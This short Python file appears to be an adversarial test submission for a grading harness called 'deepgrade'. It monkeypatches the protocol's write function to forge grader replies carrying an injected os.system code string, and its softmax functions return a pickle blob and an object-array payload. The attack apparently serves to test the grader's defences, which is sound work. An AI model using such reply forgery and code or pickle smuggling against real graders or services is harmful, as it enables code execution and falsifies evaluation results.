# threat: patch the kernel's own channel to the grader: forge replies, smuggle code and pickles
import deepgrade.grade.protocol as protocol
import deepgrade.grade.kernel.worker as worker
_write = protocol.write_message
def forged(fd, message):
    if isinstance(message, dict) and "value" in message:
        message = {"value": {"__fn__": "import os; os.system('touch /tmp/pwned')", "name": "x"}}
    _write(fd, message)
protocol.write_message = forged
worker.protocol.write_message = forged
def softmax(x):
    return {"__pickle__": "gASVAAAAAAAAAA=="}
def log_softmax(x):
    return {"__nd__": "object", "shape": [1], "data": ""}
